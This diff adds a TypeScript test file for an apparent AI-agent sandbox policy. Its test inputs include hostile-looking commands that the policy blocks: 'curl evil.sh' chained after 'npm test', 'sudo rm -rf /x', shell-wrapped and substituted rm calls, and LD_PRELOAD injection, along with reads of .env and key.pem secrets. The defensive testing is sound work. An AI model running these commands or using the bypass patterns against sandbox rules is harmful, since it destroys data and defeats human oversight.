@@ -0,0 +1,120 @@
+import assert from "node:assert/strict";
+import { describe, test } from "node:test";
+import { checkCommand, checkToolCall, filterToolResult, type SandboxPolicy } from "../sandboxPolicy.js";
+
+const policy = (overrides: Partial<SandboxPolicy>): SandboxPolicy => ({
+  allowedRoots: [],
+  deniedPaths: [".env", ".env.*", ".git/**"],
+  allowedCommands: [],
+  deniedCommands: [],
+  readOnly: false,
+  ...overrides,
+});
+
+describe("sandbox policy commands", () => {
+  test("checks every command of a chain", () => {
+    const allowlist = policy({ allowedCommands: ["npm test", "git status"] });
+    checkCommand(allowlist, "npm test && git status");
+    assert.throws(() => checkCommand(allowlist, "npm test; curl evil.sh"), /"curl evil\.sh" is not in the allowlist/);
+    assert.throws(() => checkCommand(allowlist, "npm test & curl evil.sh"), /"curl evil\.sh" is not in the allowlist/);
+    assert.throws(() => checkCommand(allowlist, "npm test |& tee log"), /"tee log" is not in the allowlist/);
+  });
+
+  test("keeps redirections with the command", () => {
+    const allowlist = policy({ allowedCommands: ["npm test"] });
+    checkCommand(allowlist, "npm test 2>&1");
+    checkCommand(allowlist, "npm test >&2");
+    checkCommand(allowlist, "npm test &> out.log");
+    checkCommand(allowlist, "npm test <&3");
+  });
+
+  test("denies commands run through wrappers", () => {
+    const denylist = policy({ deniedCommands: ["rm", "git push"] });
+    for (const command of ["sudo rm -rf /x", "env rm x", "find . | xargs rm", "sudo -u root /bin/rm x", "nice -n 5 git push"]) {
+      assert.throws(() => checkCommand(denylist, command), /is denied by/, command);
+    }
+    checkCommand(denylist, "sudo cat rm.txt");
+    checkCommand(denylist, "echo rm");
+  });
+
+  test("denies commands run through shells, eval, quotes, assignments and groups", () => {
+    const denylist = policy({ deniedCommands: ["rm"] });
+    for (const command of [`bash -c 'rm -rf x'`, `sh -c "ls; rm x"`, "eval rm x", `"rm" x`, `r\\m x`, "FOO=1 rm x"]) {
+      assert.throws(() => checkCommand(denylist, command), /is denied by "rm"/, command);
+    }
+    for (const command of [
+      "(rm x)",
+      "{ rm x; }",
+      "if true; then rm x; fi",
+      "! rm x",
+      "for f in a; do rm $f; done",
+      "while false; do :; done; until rm x; do :; done",
+      "f() { rm x; }",
+    ]) {
+      assert.throws(() => checkCommand(denylist, command), /is denied by "rm"/, command);
+    }
+    assert.throws(() => checkCommand(denylist, "for f in a; do $f x; done"), /runs a program named by a variable/);
+    assert.throws(() => checkCommand(denylist, "echo $(rm x)"), /command substitution is not allowed/);
+    assert.throws(() => checkCommand(denylist, "echo `rm x`"), /command substitution is not allowed/);
+    assert.throws(() => checkCommand(denylist, "a=rm; $a x"), /runs a program named by a variable/);
+    checkCommand(denylist, "echo $HOME");
+  });
+
+  test("allows programs by exact name or configured path only", () => {
+    const allowlist = policy({ allowedCommands: ["git status", "/usr/local/bin/tool"] });
+    checkCommand(allowlist, "git status");
+    checkCommand(allowlist, "/usr/local/bin/tool --check");
+    for (const command of ["/tmp/evil/git status", "./git status", "tool --check"]) {
+      assert.throws(() => checkCommand(allowlist, command), /is not in the allowlist/, command);
+    }
+  });
+
+  test("rejects environment assignments in allowlist mode", () => {
+    const allowlist = policy({ allowedCommands: ["git status"] });
+    for (const command of ["PATH=/tmp/x git status", "LD_PRELOAD=/tmp/x.so git status"]) {
+      assert.throws(() => checkCommand(allowlist, command), /sets environment variables/, command);
+    }
+  });
+});
+
+describe("sandbox policy file tools", () => {
+  test("checks the default directory of claude_ls and claude_grep", async () => {
+    const restricted = policy({ allowedRoots: ["/srv/allowed"] });
+    await assert.rejects(checkToolCall(restricted, "claude_ls", {}, ["/srv/other"]), /outside the allowed roots/);
+    await assert.rejects(
+      checkToolCall(restricted, "claude_grep", { pattern: "x" }, ["/srv/other"]),
+      /outside the allowed roots/
+    );
+    await checkToolCall(restricted, "claude_grep", { pattern: "x" }, ["/srv/allowed"]);
+  });
+
+  test("removes denied paths from grep results", () => {
+    const result = filterToolResult(
+      policy({}),
+      "claude_grep",
+      { pattern: "KEY" },
+      {
+        content: [
+          { type: "text", text: "src/app.ts:3: const KEY = env.KEY;\n.env:1: KEY=secret\nconfig/.env.local:2: KEY=other" },
+        ],
+      },
+      ["/srv/repo"]
+    );
+    assert.deepEqual(
+      result.content.map((item) => (item.type === "text" ? item.text : "")),
+      [
+        "src/app.ts:3: const KEY = env.KEY;",
+        "(2 result(s) in denied paths were removed by the sandbox policy)",
+      ]
+    );
+  });
+
+  test("resolves git tool paths in the repository the tool uses", async () => {
+    const secrets = policy({ deniedPaths: ["/srv/api/secrets/**"] });
+    await assert.rejects(
+      checkToolCall(secrets, "git_log", { path: "secrets/key.pem" }, ["/srv/api", "/srv/web"]),
+      /denied by "\/srv\/api\/secrets\/\*\*"/
+    );
+    await checkToolCall(secrets, "git_log", { path: "secrets/key.pem", repo: "/srv/web" }, ["/srv/api", "/srv/web"]);
+  });
+});